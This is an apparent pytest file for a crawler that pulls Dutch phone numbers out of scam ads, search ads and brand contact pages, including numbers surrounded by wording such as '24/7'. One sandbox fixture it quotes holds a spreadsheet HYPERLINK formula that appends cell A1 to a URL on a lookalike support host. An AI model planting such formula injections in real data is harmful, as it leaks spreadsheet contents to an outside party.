"""Numbers a scammer's wording or characters try to hide (issue 20, items 1 and 2): the reader still reads them,
and reads no number from ordinary words."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sandbox_runs import default_world_text, run_world, skip_without_chromium

from crawler import contact, drift
from crawler.engines import get_engine
from crawler.phones import extract_phones, find_phones
from sandbox import DEFAULT_WORLD_PATH, SandboxWeb, load_world

BOUNDED = settings(max_examples=60, deadline=None, derandomize=True)


def read(text: str, region: str = "NL") -> list[tuple[str, str]]:
    return [(p.raw, p.e164) for p in extract_phones(text, region)]


# --------------------------------------------------------------------------- 1. ad copy beside the number

AD_COPY = [
    "Bel 0900 1234 567 7 dagen per week bereikbaar",
    "Bel 0900 1234 567 24/7",
    "Bel 0900 1234 567 24 uur bereikbaar",
    "Bel 0900 1234 567 2 minuten wachttijd",
    "Bel 0900 1234 567 24/7 bereikbaar, ook in het weekend",
    "Bel nu 0900 1234 567 100% klanttevredenheid",
    "Bel 0900 1234 567 24x7 service",
    "Bel 0900 1234 567 (24 uur per dag)",
    "Bel 0900 1234 567 3 medewerkers staan klaar",
    "24/7 0900 1234 567",
    "7 dagen per week: 0900 1234 567 24 uur per dag",
]


@pytest.mark.parametrize("text", AD_COPY)
def test_a_count_beside_the_number_does_not_hide_it(text):
    assert read(text) == [("0900 1234 567", "+319001234567")]


def test_a_count_is_never_read_as_the_numbers_last_digits():
    # "0800 0227 7" is itself a valid number (0800 02277): the 7 counts the days
    assert read("Bel gratis 0800 0227 7 dagen per week") == [("0800 0227", "+318000227")]
    assert read("Bel 0800 0227 24/7") == [("0800 0227", "+318000227")]
    assert read("Bel 0800 0227 24 uur per dag") == [("0800 0227", "+318000227")]


@pytest.mark.parametrize("text", [
    "Bel 0900 1234 567 dag en nacht",  # "dag" after the number is not a count of it
    "Bel 0900 1234 567 u wordt direct geholpen",
    "Bel 020 123 45 67 of mail ons",
])
def test_words_after_the_number_that_are_no_counts_keep_it_whole(text):
    [(raw, _)] = read(text)
    assert raw in text and raw.split()[-1] in ("567", "67")


@pytest.mark.parametrize("text", [
    "24/7 bereikbaar, 7 dagen per week, 365 dagen per jaar",
    "Binnen 2 minuten geholpen, 24 uur per dag, 100% tevreden",
    "Al 25 jaar de beste service. 4,8 sterren uit 1200 reviews",
    "Bestel voor 23:59, morgen in huis. 30 dagen bedenktijd",
    "Ma-vr 8.00-20.00 uur, za 9.00-17.00 uur",
    "Nu 50% korting op 2 abonnementen, 12 maanden vast",
])
def test_counts_alone_are_no_numbers(text):
    assert read(text) == []


NUMBERS = st.sampled_from([("0900 1234 567", "+319001234567"), ("020 123 4567", "+31201234567"),
                           ("06 12 34 56 78", "+31612345678"), ("088 444 66 66", "+31884446666"),
                           ("0800-0227", "+318000227"), ("+31 20 123 4567", "+31201234567")])
COUNTS = st.sampled_from(["7 dagen per week bereikbaar", "24/7", "24 uur bereikbaar", "2 minuten wachttijd",
                          "24x7", "7/7", "24h/24", "100%", "365 dagen per jaar", "1 dag", "5 min wachttijd",
                          "24u per dag"])


@BOUNDED
@given(NUMBERS, COUNTS, st.booleans())
def test_any_count_before_or_after_any_number(number, count, before):
    raw, e164 = number
    text = f"Bel {count} {raw}" if before else f"Bel {raw} {count}"
    assert read(text) == [(raw, e164)]


def test_a_brands_contact_page_with_the_wording_is_harvested():
    html = "<h1>Klantenservice</h1><p>Bel 0800 555 1234 24/7 bereikbaar, 7 dagen per week.</p>"
    page = contact.parse(html, "https://www.vitalux.nl/contact", "NL")
    assert [p.e164 for p in page.phones] == ["+318005551234"]
    assert [p.e164 for p in contact.parse("Bel 0800 555 1234 7 dagen per week bereikbaar").phones] == [
        "+318005551234"]


def _telnova_serp(description: str, markup: str = "current") -> tuple[str, str]:
    """The sandbox's Google page for Telnova with its top ad's number only in the ad text."""
    world = load_world(DEFAULT_WORLD_PATH)
    serp = next(s for s in world.serps if s["engine"] == "google" and s["query"] == "Telnova klantenservice")
    serp["ads"][0].update(description=description, call=None, call_e164=None)
    world.engines.setdefault("google", {})["markup"] = markup
    url = "https://www.google.nl/search?q=Telnova+klantenservice&hl=nl&gl=nl"
    return SandboxWeb(world).respond("GET", url, {"user-agent": "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0"}
                                     ).body.decode(), url


def test_an_ad_with_the_wording_gives_its_number_and_the_drift_alarm_sees_it():
    html, url = _telnova_serp("Bel 0900 1234 567 7 dagen per week bereikbaar")
    page = get_engine("google").parse(html, url)
    ad = next(r for r in page.results if r.kind == "ad")
    assert "+319001234567" in {p.e164 for p in ad.phones}
    html, url = _telnova_serp("Bel 0900 1234 567 7 dagen per week bereikbaar", markup="drifted")
    d = drift.check("google", html, get_engine("google").parse(html, url))
    assert "+319001234567" in d.numbers_seen and "+319001234567" in d.numbers_missed


def test_positions_point_at_the_number():
    text = "Bel 0900 1234 567 7 dagen per week"
    [pm] = find_phones(text)
    assert text[pm.start:pm.end] == "0900 1234 567"


def test_numbers_written_one_after_another_anywhere_in_the_line():
    # (the split of such runs read only a run at the very start of the text)
    assert read("Bel 020 1234567 088 444 66 66") == [("020 1234567", "+31201234567"),
                                                    ("088 444 66 66", "+31884446666")]


@pytest.mark.browser
def test_a_sandbox_night_finds_the_number_in_ad_copy_and_harvests_it_from_the_contact_page(tmp_path):
    skip_without_chromium()
    text = default_world_text()
    ad = """  description = '=HYPERLINK("https://www.telnova-support.nl/?c="&A1,"Klik") Problemen met je abonnement? \
Onze medewerkers staan dag en nacht voor je klaar.'
  call = "0900 1234 567"
"""
    contact_line = '<a href="tel:+318000234567">0800 023 4567</a> (ma-za 8.00-20.00 uur)'
    assert ad in text and contact_line in text, "the default world's Telnova ad or contact page changed"
    text = text.replace(ad, '  description = "Bel 0900 1234 567 7 dagen per week bereikbaar"\n', 1)
    text = text.replace(contact_line, "0800 023 4567 24/7 bereikbaar, 7 dagen per week", 1)
    outcome, store, _ = run_world(tmp_path, text, ["Telnova"])
    assert store.harvest_status(outcome.run_id, "Telnova") == "ok"
    assert "+318000234567" in store.official_numbers("Telnova")
    assert "+319001234567" in {f["e164"] for f in outcome.scams if f["brand"] == "Telnova"}
